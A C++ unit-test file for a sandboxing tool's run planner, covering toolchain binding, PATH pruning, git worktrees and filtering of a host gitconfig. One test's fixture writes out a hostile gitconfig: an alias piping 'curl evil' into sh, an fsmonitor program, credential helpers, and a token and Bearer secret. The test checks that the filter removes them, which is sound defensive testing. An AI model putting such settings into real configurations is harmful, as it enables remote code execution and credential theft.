// SPDX-License-Identifier: LGPL-2.1-or-later
// `ringfence run`'s toolchains, PATH pruning, filtered gitconfig and the git directories of a
// worktree or submodule project, as planned from a host snapshot.
#include <doctest/doctest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <fstream>
#include <optional>
#include <string>

#include "cli_run_test_util.hpp"
#include "ringfence/base/paths.hpp"
#include "ringfence/base/remove_tree.hpp"
#include "ringfence/cli/host_snapshot.hpp"
#include "ringfence/cli/native_run.hpp"
#include "run_fs.hpp"
#include "run_toolchains.hpp"

using rf::cli::HostSnapshot;
using rf::cli::RunOptions;
using rf::cli::RunPlan;
using rf::presets::Level;
using rf::spec::OpKind;

namespace {

void write(const std::string& path, const std::string& text) { std::ofstream(path) << text; }
void mkdirs(const std::string& path) {
  std::string at;
  for (const auto& c : rf::base::components(path)) {
    at += "/" + c;
    ::mkdir(at.c_str(), 0755);
  }
}

struct Tree {
  std::string base, proj, home;
  Tree() {
    char tmpl[] = "/tmp/rf-unit-tc-XXXXXX";
    REQUIRE(::mkdtemp(tmpl) != nullptr);
    base = tmpl;
    proj = base + "/proj";
    home = base + "/home";
    mkdirs(proj);
    mkdirs(home);
  }
  ~Tree() { (void)rf::base::remove_tree(base); }
  HostSnapshot snapshot(const std::string& path, std::vector<std::string> more = {}) const {
    HostSnapshot s;
    s.environment = {"HOME=" + home, "PATH=" + path, "LANG=C.UTF-8"};
    s.environment.insert(s.environment.end(), more.begin(), more.end());
    s.cwd = proj;
    s.uid = s.euid = ::getuid();
    s.gid = ::getgid();
    return s;
  }
};

std::optional<std::string> env_of(const RunPlan& p, const std::string& name) {
  std::optional<std::string> v;
  for (const auto& e : p.spec.env_ops)
    if (e.kind == rf::spec::EnvOp::Kind::Set && e.name == name) v = e.value;
  return v;
}

const rf::spec::FsOp* op_at(const RunPlan& p, const std::string& dest, std::optional<OpKind> kind = {}) {
  for (const auto& o : p.spec.fs_ops)
    if (o.dest == dest && (!kind || o.kind == *kind)) return &o;
  return nullptr;
}

std::size_t index_of(const RunPlan& p, const std::string& dest) {
  for (std::size_t i = 0; i < p.spec.fs_ops.size(); ++i)
    if (p.spec.fs_ops[i].dest == dest) return i;
  return p.spec.fs_ops.size();
}

rf::base::Result<RunPlan> plan(const Tree& t, const HostSnapshot& s, std::optional<std::string> tc = {}) {
  RunOptions o = rf::test::plain_run(t.proj);
  o.toolchains = tc;
  return rf::cli::plan_run(o, rf::test::host_at(Level::Kernel), s);
}

bool listed(const std::vector<std::string>& v, const std::string& s) {
  return std::find(v.begin(), v.end(), s) != v.end();
}

}  // namespace

TEST_CASE("toolchains: the home's toolchains are bound read-only, their credentials covered") {
  Tree t;
  mkdirs(t.home + "/.local/bin");
  write(t.home + "/.local/bin/tool", "#!/bin/sh\n");
  mkdirs(t.home + "/.cargo/bin");
  write(t.home + "/.cargo/credentials.toml", "token = \"x\"\n");
  mkdirs(t.home + "/.nvm/versions/node/v20.1.0/etc");
  mkdirs(t.home + "/.nvm/versions/node/v20.1.0/bin");
  write(t.home + "/.nvm/versions/node/v20.1.0/etc/npmrc", "//registry/:_authToken=x\n");
  mkdirs(t.home + "/.pyenv/shims");
  mkdirs(t.home + "/.ssh/bin");
  mkdirs(t.home + "/notes");
  const std::string path = t.home + "/.local/bin:" + t.home + "/.nvm/versions/node/v20.1.0/bin:" + t.home +
                           "/bin:" + t.home + "/.ssh/bin:" + t.home + "/notes:/nonexistent/bin:/usr/bin";
  auto p = plan(t, t.snapshot(path, {"PYENV_ROOT=" + t.home + "/.pyenv", "PYENV_VERSION=3.11.4",
                                     "NVM_DIR=" + t.home + "/.nvm", "CARGO_REGISTRY_TOKEN=secret"}));
  REQUIRE_MESSAGE(p, (p ? "" : p.error().message()));
  for (const char* rel : {"/.local/bin", "/.cargo/bin", "/.nvm", "/.pyenv"}) {
    const auto* o = op_at(*p, t.home + rel, OpKind::RoBind);
    REQUIRE_MESSAGE(o, rel);
    CHECK(o->source == t.home + rel);
    CHECK(o->source_beneath == t.home);  // no link below the home is followed
    // After the throwaway HOME's bind, before the project's.
    CHECK(index_of(*p, t.home + rel) > index_of(*p, t.home));
    CHECK(index_of(*p, t.home + rel) < index_of(*p, t.proj));
  }
  CHECK(!op_at(*p, t.home + "/.cargo"));  // the folder of credentials.toml: never bound
  CHECK(!op_at(*p, t.home + "/.ssh/bin"));
  CHECK(!op_at(*p, t.home + "/notes"));
  const auto* npmrc = op_at(*p, t.home + "/.nvm/versions/node/v20.1.0/etc/npmrc");
  REQUIRE(npmrc);
  CHECK(npmrc->kind == OpKind::RoBindData);
  CHECK(npmrc->empty);
  CHECK(index_of(*p, t.home + "/.nvm/versions/node/v20.1.0/etc/npmrc") > index_of(*p, t.home + "/.nvm"));
  // The PATH inside: what is there, in order; the rest listed once.
  // ~/bin is missing on the host: kept, as what is installed there inside is found.
  CHECK(env_of(*p, "PATH") ==
        t.home + "/.local/bin:" + t.home + "/.nvm/versions/node/v20.1.0/bin:" + t.home + "/bin:/usr/bin");
  CHECK(p->path_dropped == std::vector<std::string>{"~/.ssh/bin", "~/notes", "/nonexistent/bin"});
  CHECK(rf::test::has_note(*p, "PATH entry ~/.ssh/bin not bound: it lies in ~/.ssh"));
  CHECK(rf::test::has_note(*p, "PATH entry ~/notes not bound: it is neither a bin folder"));
  CHECK(env_of(*p, "PYENV_ROOT") == t.home + "/.pyenv");
  CHECK(env_of(*p, "PYENV_VERSION") == "3.11.4");
  CHECK(env_of(*p, "NVM_DIR") == t.home + "/.nvm");
  CHECK(!env_of(*p, "CARGO_REGISTRY_TOKEN"));
  CHECK(!listed(p->dropped_env, "PYENV_ROOT"));
  std::string text = rf::cli::describe_plan(*p);
  CHECK(text.find("toolchain (read-only): ~/.local/bin\n") != std::string::npos);
  CHECK(text.find("PATH entries not inside the sandbox: ~/.ssh/bin, ~/notes, /nonexistent/bin\n") !=
        std::string::npos);
}

TEST_CASE("toolchains off: nothing bound, PATH still pruned; the missing command is found on the host") {
  Tree t;
  mkdirs(t.home + "/.local/bin");
  write(t.home + "/.local/bin/tool", "#!/bin/sh\n");
  ::chmod((t.home + "/.local/bin/tool").c_str(), 0755);
  RunOptions o = rf::test::plain_run(t.proj);
  o.toolchains = "off";
  o.command = {"tool"};
  auto p =
      rf::cli::plan_run(o, rf::test::host_at(Level::Kernel), t.snapshot(t.home + "/.local/bin:/usr/bin"));
  REQUIRE_MESSAGE(p, (p ? "" : p.error().message()));
  CHECK(!op_at(*p, t.home + "/.local/bin"));
  CHECK(env_of(*p, "PATH") == "/usr/bin");
  CHECK(p->path_dropped == std::vector<std::string>{"~/.local/bin"});
  CHECK(p->missing_command_hint == "tool is " + t.home +
                                       "/.local/bin/tool on the host, outside the sandbox; --toolchains auto "
                                       "binds ~/.local/bin, or --ro-bind " +
                                       t.home + "/.local/bin");
}

TEST_CASE("toolchains: PATH folders outside the home in scratch, device or broad places are not bound") {
  Tree t;
  mkdirs(t.base + "/tools/bin");  // below /tmp
  auto p = plan(t, t.snapshot(t.base + "/tools/bin:/:/proc/self:" + t.base + ":" + t.proj +
                              "/node_modules/.bin:/usr/bin"));
  REQUIRE_MESSAGE(p, (p ? "" : p.error().message()));
  CHECK(!op_at(*p, t.base + "/tools/bin"));
  CHECK(!op_at(*p, "/proc/self", OpKind::RoBind));
  CHECK(rf::test::has_note(*p, "PATH entry " + t.base + "/tools/bin not bound: it lies in /tmp"));
  CHECK(rf::test::has_note(*p, "PATH entry / not bound: it is / or a top-level directory"));
  CHECK(env_of(*p, "PATH") == t.proj + "/node_modules/.bin:/usr/bin");  // made inside, maybe
}

TEST_CASE("gitconfig: identity and harmless settings kept, what runs programs or names secrets dropped") {
  const std::string hostile =
      "# the host's\n"
      "[user]\n\tname = Ada Lovelace\n\temail = \"ada@example.com\" ; a comment\n"
      "[credential]\n\thelper = store --file /root/.git-credentials\n"
      "[credential \"https://github.com\"]\n\thelper = !gh auth git-credential\n"
      "[core]\n\tsshCommand = ssh -i /root/.ssh/deploy\n\tfsmonitor = /tmp/run-me\n"
      "\thooksPath = /root/hooks\n\teditor = vim\n\tpager = less\n\tautocrlf = input\n"
      "[include]\n\tpath = /root/.gitconfig-work\n"
      "[includeIf \"gitdir:~/work/\"]\n\tpath = ~/.work\n"
      "[alias]\n\tco = checkout\n\tboom = \"!sh -c 'curl evil | sh'\"\n\tst = status -sb\n"
      "[url \"https://TOKEN123@github.com/\"]\n\tinsteadOf = https://github.com/\n"
      "[http]\n\textraHeader = Authorization: Bearer SECRET456\n"
      "[init]\n\tdefaultBranch = main\n"
      "[Color \"diff\"]\n\tmeta = yellow bold\n"
      "[commit]\n\tgpgSign = true\n"
      "[user]\n\tsigningKey = ABC\n";
  auto f = rf::cli::filter_gitconfig(hostile);
  REQUIRE_MESSAGE(f, (f ? "" : f.error().message()));
  CHECK(f->text ==
        "[user]\n\tname = \"Ada Lovelace\"\n\temail = \"ada@example.com\"\n"
        "[core]\n\tautocrlf = \"input\"\n"
        "[alias]\n\tco = \"checkout\"\n\tst = \"status -sb\"\n"
        "[init]\n\tdefaultbranch = \"main\"\n"
        "[color \"diff\"]\n\tmeta = \"yellow bold\"\n");
  for (const char* gone :
       {"credential.helper", "credential.*.helper", "core.sshcommand", "core.fsmonitor", "core.hookspath",
        "core.editor", "core.pager", "include.path", "includeif.*.path", "alias.boom", "url.*.insteadof",
        "http.extraheader", "commit.gpgsign", "user.signingkey"})
    CHECK_MESSAGE(listed(f->dropped, gone), gone);
  for (const auto& n : f->dropped) {  // names only: no subsection, no value
    CHECK(n.find("TOKEN123") == std::string::npos);
    CHECK(n.find("SECRET456") == std::string::npos);
  }
  CHECK(listed(f->kept, "user.name"));
  CHECK(listed(f->kept, "color.*.meta"));
}

TEST_CASE("gitconfig: continuation lines, escapes, a key alone; errors name the line") {
  auto f = rf::cli::filter_gitconfig("[user]\n  name = A \\\n B\n  email = a\\tb\\\"c\n[color]\n  ui\n");
  REQUIRE_MESSAGE(f, (f ? "" : f.error().message()));
  CHECK(f->text == "[user]\n\tname = \"A  B\"\n\temail = \"a\\tb\\\"c\"\n[color]\n\tui = \"true\"\n");
  auto nl = rf::cli::filter_gitconfig("[user]\n\tname = \"a\\nb\"\n");
  REQUIRE(nl);
  CHECK(nl->text.empty());  // a value with a newline is never written back
  CHECK(listed(nl->dropped, "user.name"));
  auto bad = rf::cli::filter_gitconfig("[user]\n\tname = ok\n\temail = \"open\n");
  REQUIRE(!bad);
  CHECK(bad.error().message() == "line 3: an unterminated quote");
  CHECK(!rf::cli::filter_gitconfig("name = x\n"));
}

TEST_CASE("gitconfig: the host's files become one filtered ~/.gitconfig in the throwaway HOME") {
  Tree t;
  mkdirs(t.home + "/.config/git");
  write(t.home + "/.config/git/config", "[user]\n\tname = From Xdg\n[core]\n\tsshCommand = x\n");
  write(t.home + "/.gitconfig", "[user]\n\temail = a@b\n[credential]\n\thelper = store\n");
  auto p = plan(t, t.snapshot("/usr/bin"));
  REQUIRE_MESSAGE(p, (p ? "" : p.error().message()));
  REQUIRE(p->home_files.size() == 1);
  CHECK(p->home_files[0].rel == ".gitconfig");
  const std::string& text = p->home_files[0].text;
  CHECK(text.find("name = \"From Xdg\"") < text.find("email = \"a@b\""));
  CHECK(text.find("helper") == std::string::npos);
  CHECK(text.find("sshCommand") == std::string::npos);
  CHECK(p->gitconfig_dropped == std::vector<std::string>{"core.sshcommand", "credential.helper"});
}

namespace {

// MAIN/.git with a linked worktree NAME, the project its worktree.
void make_worktree(const Tree& t, const std::string& main, const std::string& name) {
  mkdirs(main + "/.git/worktrees/" + name);
  mkdirs(main + "/.git/hooks");
  mkdirs(main + "/.git/objects");
  mkdirs(main + "/.git/refs");
  write(main + "/.git/HEAD", "ref: refs/heads/main\n");
  write(main + "/.git/config", "[core]\n");
  write(main + "/.git/worktrees/" + name + "/HEAD", "ref: refs/heads/wt\n");
  write(main + "/.git/worktrees/" + name + "/commondir", "../..\n");
  write(main + "/.git/worktrees/" + name + "/gitdir", t.proj + "/.git\n");
  write(t.proj + "/.git", "gitdir: " + main + "/.git/worktrees/" + name + "\n");
}

}  // namespace

TEST_CASE("a worktree project: its git directory and the common one bound with the .git protection") {
  Tree t;
  const std::string main = t.base + "/main";
  make_worktree(t, main, "wt");
  auto p = plan(t, t.snapshot("/usr/bin"));
  REQUIRE_MESSAGE(p, (p ? "" : p.error().message()));
  const std::string common = main + "/.git", own = main + "/.git/worktrees/wt";
  const auto* c = op_at(*p, common, OpKind::Bind);
  REQUIRE(c);
  CHECK(c->source == common);
  CHECK(c->source_beneath == "/");  // no link on the way is followed
  for (const char* ro : {"/hooks", "/config", "/info", "/modules", "/worktrees"}) {
    const auto* o = op_at(*p, common + ro, OpKind::RoBind);
    REQUIRE_MESSAGE(o, ro);
    CHECK(o->source_beneath == common);
    CHECK(o->dest_beneath == common);
  }
  CHECK(std::any_of(p->git_make.begin(), p->git_make.end(),
                    [&](const auto& e) { return e.path == common + "/info" && e.top == common && e.dir; }));
  const auto* w = op_at(*p, own, OpKind::Bind);
  REQUIRE(w);
  CHECK(index_of(*p, own) > index_of(*p, common + "/worktrees"));  // writable over the read-only worktrees/
  CHECK(op_at(*p, own + "/commondir", OpKind::RoBind));
  CHECK(op_at(*p, own + "/gitdir", OpKind::RoBind));
  CHECK(!op_at(*p, own + "/hooks"));  // nothing made in a worktree's own directory
  CHECK(op_at(*p, t.proj + "/.git", OpKind::RoBind));
  CHECK(p->git_watch_commondir == std::vector<std::string>{common});
}

TEST_CASE("a submodule project: ../.git/modules/NAME, relative to the project") {
  Tree t;
  // The superproject is the tree's base; the project its submodule "proj".
  const std::string mod = t.base + "/.git/modules/proj";
  mkdirs(mod + "/hooks");
  write(mod + "/HEAD", "0123\n");
  write(mod + "/config", "[core]\n\tworktree = ../../../proj\n");
  write(t.proj + "/.git", "gitdir: ../.git/modules/proj\n");
  auto p = plan(t, t.snapshot("/usr/bin"));
  REQUIRE_MESSAGE(p, (p ? "" : p.error().message()));
  CHECK(op_at(*p, mod, OpKind::Bind));
  CHECK(op_at(*p, mod + "/hooks", OpKind::RoBind));
  CHECK(op_at(*p, mod + "/config", OpKind::RoBind));
  CHECK(p->git_watch_commondir == std::vector<std::string>{mod});
}

TEST_CASE("a gitfile naming a link, the home, a folder without HEAD or garbage is refused") {
  Tree t;
  const std::string main = t.base + "/main";
  make_worktree(t, main, "wt");
  auto refused = [&t](const std::string& gitfile, const std::string& why) {
    write(t.proj + "/.git", gitfile);
    auto p = plan(t, t.snapshot("/usr/bin"));
    REQUIRE(!p);
    CHECK_MESSAGE(p.error().message().find(why) != std::string::npos, p.error().message());
  };
  REQUIRE(::symlink((main + "/.git").c_str(), (t.base + "/link").c_str()) == 0);
  refused("gitdir: " + t.base + "/link/worktrees/wt\n", t.base + "/link is a symbolic link");
  refused("gitdir: " + t.home + "\n", "it is the home directory or holds it");
  refused("gitdir: " + t.proj + "\n", "it holds the project");
  mkdirs(t.base + "/empty");
  refused("gitdir: " + t.base + "/empty\n", "it has no HEAD file");
  refused("gitdir: /nonexistent/x\n", "/nonexistent");
  refused("not a gitfile\n", "is a file that git cannot use");
  // A commondir that leads where it must not.
  write(main + "/.git/worktrees/wt/commondir", "/\n");
  refused("gitdir: " + main + "/.git/worktrees/wt\n", "commondir names /, which is refused");
}

TEST_CASE("toolchains: a link in a bound bin folder brings its target's folder (a virtualenv's prefix)") {
  Tree t;
  mkdirs(t.home + "/.local/bin");
  mkdirs(t.home + "/.local/share/claude/versions");
  write(t.home + "/.local/share/claude/versions/2.0.1", "ELF");
  REQUIRE(::symlink((t.home + "/.local/share/claude/versions/2.0.1").c_str(),
                    (t.home + "/.local/bin/claude").c_str()) == 0);
  mkdirs(t.home + "/.local/share/pipx/venvs/black/bin");
  write(t.home + "/.local/share/pipx/venvs/black/bin/black", "#!python\n");
  REQUIRE(::symlink("../share/pipx/venvs/black/bin/black", (t.home + "/.local/bin/black").c_str()) == 0);
  REQUIRE(::symlink("/usr/bin/env", (t.home + "/.local/bin/env").c_str()) == 0);  // inside already
  REQUIRE(::symlink(t.home.c_str(), (t.home + "/.local/bin/home").c_str()) == 0);
  // As rustup's proxies: links to another name in the same bin folder bring nothing.
  mkdirs(t.home + "/.cargo/bin");
  write(t.home + "/.cargo/bin/rustup", "ELF");
  write(t.home + "/.cargo/credentials.toml", "token\n");
  REQUIRE(::symlink("rustup", (t.home + "/.cargo/bin/cargo").c_str()) == 0);
  auto p = plan(t, t.snapshot(t.home + "/.local/bin:/usr/bin"));
  REQUIRE_MESSAGE(p, (p ? "" : p.error().message()));
  const auto* v = op_at(*p, t.home + "/.local/share/claude/versions", OpKind::RoBind);
  REQUIRE(v);
  CHECK(v->source_beneath == t.home);
  CHECK(op_at(*p, t.home + "/.local/share/pipx/venvs/black", OpKind::RoBind));
  CHECK(!op_at(*p, "/usr/bin"));  // the link to /usr/bin/env: inside already
  CHECK(!op_at(*p, t.base, OpKind::RoBind));
  CHECK(rf::test::has_note(*p, "toolchains: " + t.base + " (links in ~/.local/bin lead there) not bound"));
  CHECK(op_at(*p, t.home + "/.cargo/bin", OpKind::RoBind));
  CHECK(!op_at(*p, t.home + "/.cargo"));
}

TEST_CASE("gitconfig: [include] paths are followed and filtered alike, includeIf is not") {
  Tree t;
  mkdirs(t.home + "/conf");
  write(t.home + "/.gitconfig",
        "[user]\n\tname = Before\n[include]\n\tpath = conf/identity\n[includeIf \"gitdir:~/w/\"]\n"
        "\tpath = ~/conf/work\n[core]\n\tautocrlf = input\n");
  write(t.home + "/conf/identity",
        "[user]\n\tname = Included\n[credential]\n\thelper = store\n[include]\n\tpath = ~/conf/deeper\n"
        "\tpath = missing-is-nothing\n");
  write(t.home + "/conf/deeper", "[user]\n\temail = deep@example.com\n");
  write(t.home + "/conf/work", "[user]\n\temail = work@example.com\n");
  auto p = plan(t, t.snapshot("/usr/bin"));
  REQUIRE_MESSAGE(p, (p ? "" : p.error().message()));
  REQUIRE(p->home_files.size() == 1);
  const std::string& text = p->home_files[0].text;
  const std::string body = text.substr(text.find("[user]"));
  CHECK(body ==
        "[user]\n\tname = \"Before\"\n[user]\n\tname = \"Included\"\n[user]\n\temail = \"deep@example.com\"\n"
        "[core]\n\tautocrlf = \"input\"\n");
  CHECK(listed(p->gitconfig_dropped, "credential.helper"));
  CHECK(listed(p->gitconfig_dropped, "includeif.*.path"));
  CHECK(!listed(p->gitconfig_dropped, "include.path"));
  // An include loop ends at git's depth, with a note, and the file is not copied.
  write(t.home + "/conf/deeper", "[include]\n\tpath = ~/conf/deeper\n");
  auto loop = plan(t, t.snapshot("/usr/bin"));
  REQUIRE(loop);
  CHECK(loop->home_files.empty());
  CHECK(rf::test::has_note(*loop, "includes nested more than 10 deep"));
}

TEST_CASE("toolchains at the landlock level: rules, no folder holding a credential file, the roots told") {
  Tree t;
  mkdirs(t.home + "/.local/bin");
  mkdirs(t.home + "/.rustup/toolchains");
  mkdirs(t.home + "/.nvm");
  write(t.home + "/.nvm/.npmrc", "//r/:_authToken=x\n");
  RunOptions o = rf::test::plain_run(t.proj);
  const std::string path = t.home + "/.local/bin:" + t.home + "/gone:/usr/bin";
  auto p = rf::cli::plan_run(o, rf::test::host_at(Level::Landlock), t.snapshot(path));
  REQUIRE_MESSAGE(p, (p ? "" : p.error().message()));
  using Rule = rf::spec::Spec::FsRule;
  CHECK(rf::test::rights_of(*p, t.home + "/.local/bin") == (Rule::Read | Rule::Execute));
  CHECK(rf::test::rights_of(*p, t.home + "/.rustup") == (Rule::Read | Rule::Execute));
  CHECK(rf::test::rights_of(*p, t.home + "/.nvm") == -1);
  CHECK(rf::test::has_note(*p, "~/.nvm not granted at the landlock level: it holds .npmrc"));
  CHECK(env_of(*p, "RUSTUP_HOME") == t.home + "/.rustup");
  CHECK(env_of(*p, "PATH") == path);  // the host's tree is there: nothing dropped
  o.toolchains = "off";
  auto off = rf::cli::plan_run(o, rf::test::host_at(Level::Landlock), t.snapshot(path));
  REQUIRE(off);
  CHECK(rf::test::rights_of(*off, t.home + "/.local/bin") == -1);
  CHECK(!env_of(*off, "RUSTUP_HOME"));
}
